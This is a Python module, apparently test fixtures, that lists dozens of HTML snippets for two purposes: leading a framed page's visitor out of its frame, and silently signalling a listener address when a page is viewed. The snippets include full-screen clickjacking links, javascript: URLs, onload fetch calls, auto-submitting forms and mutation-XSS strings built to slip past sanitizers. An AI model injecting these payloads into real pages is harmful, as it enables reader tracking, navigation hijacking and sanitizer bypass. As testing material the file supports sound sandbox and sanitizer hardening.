"""What a page could hold to lead out of its frame, or to tell somebody that it was looked at.

OUT is the address of who listens. Whatever can be pressed fills the frame.
"""

from __future__ import annotations

_FILL = 'style="position:fixed;inset:0;display:block;width:100%;height:100%;background:#fee"'
_PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="

TO_PRESS = {
    "link": f"<a href=OUT {_FILL}>press</a>",
    **{f"link to {name}": f"<a href=OUT target={name} {_FILL}>press</a>" for name in ("_self", "_top", "_parent")},
    "link to _blank": f"<a href=OUT target=_blank rel=opener {_FILL}>press</a>",
    "link to a name": f"<a href=OUT target=elsewhere {_FILL}>press</a>",
    "link with ping": f"<a href=#x ping=OUT {_FILL}>press</a>",
    "link without a scheme": f"<a href=//HOST/x {_FILL} target=_self>press</a>",
    "link with a base": f"<base href=OUT target=_self><a href=x {_FILL}>press</a>",
    "link with focus": f"<a href=OUT target=_self autofocus tabindex=1 accesskey=x {_FILL}>press</a>",
    "link to a script": f"<a href=\"javascript:location='OUT'\" target=_self {_FILL}>press</a>",
    "link to data": f"<a href='data:text/html,<img src=OUT>' target=_self {_FILL}>press</a>",
    "download": f"<a href=OUT download {_FILL}>press</a>",
    "area": f"<map name=m><area shape=default href=OUT target=_self></map><img src={_PIXEL} usemap=#m {_FILL}>",
    "link of an SVG": f'<svg {_FILL}><a href=OUT target=_self><rect width="999" height="999"/></a></svg>',
    "old link of an SVG": f'<svg {_FILL}><a xlink:href=OUT target=_self><rect width="999" height="999"/></a></svg>',
    "link of an SVG that is set": f'<svg {_FILL}><a target=_self><set attributeName=href to=OUT />'
    '<rect width="999" height="999"/></a></svg>',
    "link of an SVG that is animated": f'<svg {_FILL}><a target=_self>'
    '<animate attributeName=xlink:href values=OUT dur=1s fill=freeze /><rect width="999" height="999"/></a></svg>',
    "link used in an SVG": f'<svg {_FILL}><defs><a id=l href=OUT target=_self><rect width="999" height="999"/></a>'
    "</defs><use href=#l /></svg>",
    "link in a foreign object": f"<svg {_FILL}><foreignObject width=999 height=999><a href=OUT target=_self {_FILL}>"
    "press</a></foreignObject></svg>",
    "link of MathML": f"<math href=OUT {_FILL}><mtext href=OUT>press</mtext></math>",
    "form": f"<form action=OUT target=_self><button {_FILL}>press</button></form>",
    "form by its button": f"<form><button formaction=OUT formtarget=_self formmethod=get {_FILL}>press</button></form>",
    "form by an image": f"<form action=OUT><input type=image src={_PIXEL} {_FILL}></form>",
    "form by Enter": f"<form action=OUT><input autofocus value=press {_FILL}></form>",
    "dialog that is opened": f"<button popovertarget=d {_FILL}>press</button>"
    f"<div popover id=d><a href=OUT target=_self {_FILL}>press</a></div>",
    "frame in a frame": f"<iframe srcdoc='<a href=OUT target=_parent {_FILL}>press</a>' {_FILL}></iframe>",
    "link in a shadow": f"<div><template shadowrootmode=open><a href=OUT target=_self {_FILL}>press</a></template>"
    "</div>",
    "link in a style": f"<svg></p><style><a title='</style><a href=OUT target=_self {_FILL}>press</a>'>",
    "link that a second reading makes": "<math><mtext><table><mglyph><style><!--</style>"
    f"<a title='--&gt;&lt;a href=OUT target=_self {_FILL.replace('<', '')}&gt;press'>",
    "link in noscript": f"<noscript><a href=OUT target=_self {_FILL}>press</a></noscript>",
    "link beside an unknown element": f"<x-y href=OUT><a/href=OUT/target=_self {_FILL}>press</a></x-y>",
}  # fmt: skip
TO_SEE = {
    "frame": "<iframe src=OUT></iframe>",
    "frame with a body of its own": "<iframe srcdoc='<img src=OUT><iframe src=OUT></iframe>'></iframe>",
    "frames": "<frameset><frame src=OUT></frameset>",
    "object": "<object data=OUT></object><object type=image/svg+xml data=OUT></object><embed src=OUT>",
    "portal": "<portal src=OUT></portal><fencedframe src=OUT></fencedframe><webview src=OUT></webview>",
    "refresh": "<meta http-equiv=refresh content='0;url=OUT'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src=OUT>",
    "client hints": "<meta http-equiv=Delegate-CH content='sec-ch-ua OUT'><meta http-equiv=x-dns-prefetch-control"
    " content=on><a href=OUT>x</a>",
    **{
        f"link rel={rel}": f"<link rel={rel} href=OUT as=image>"
        for rel in ("preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "icon",
                    "stylesheet", "manifest", "search", "next", "compression-dictionary")
    },
    "speculation": '<script type=speculationrules>{"prerender":[{"urls":["OUT"]}]}</script>',
    "import map": '<script type=importmap>{"imports":{"a":"OUT"}}</script><script src=OUT></script>',
    "image": "<img src=OUT srcset='OUT 2x' lowsrc=OUT longdesc=OUT>",
    "picture": "<picture><source srcset=OUT><img></picture>",
    "media": "<video src=OUT poster=OUT autoplay></video><audio src=OUT autoplay></audio>"
    "<video autoplay><source src=OUT><track default src=OUT></video>",
    "input": "<input type=image src=OUT>",
    "background": "<body background=OUT><table background=OUT><td background=OUT>x</table>",
    "style": "<div style='background:url(OUT);list-style-image:url(OUT);cursor:url(OUT),auto'>x</div>",
    "sheet": "<style>@import 'OUT'; @import url(OUT) layer(x); body{background:image-set('OUT' 1x);content:url(OUT)}"
    "@font-face{font-family:f;src:url(OUT)} *{font-family:f;mask:url(OUT);filter:url(OUT)}</style>x",
    "namespaced sheet": "<?xml-stylesheet href='OUT'?><svg><style>@import 'OUT';</style></svg>",
    "SVG": "<svg><image href=OUT /><image xlink:href=OUT /><use href=OUT#a /><use xlink:href=OUT#a /><feImage"
    " href=OUT /><rect fill='url(OUT#a)' filter='url(OUT#f)' width=9 height=9 /><foreignObject><img src=OUT>"
    "</foreignObject></svg>",
    "MathML": "<math><mglyph src=OUT /><annotation-xml encoding=text/html><img src=OUT></annotation-xml></math>",
    "body that loads": "<body onload=\"fetch('OUT')\"><script>fetch('OUT')</script><html manifest=OUT>",
    "form that is sent": "<form id=f action=OUT></form><input form=f autofocus onfocus=form.submit()>",
    "head that is closed": "</title></style></head><body><meta http-equiv=refresh content='0;OUT'><iframe src=OUT>",
    "conditional comment": "<!--[if true]><img src=OUT><![endif]--><!--><img src=OUT>-->",
}  # fmt: skip
ALL = {**TO_PRESS, **TO_SEE}


def ways_out(address: str) -> dict[str, str]:
    """All of them, to an address such as http://127.0.0.1:8000/x."""
    host = address.partition("//")[2].partition("/")[0]
    return {name: html.replace("OUT", address).replace("HOST", host) for name, html in ALL.items()}
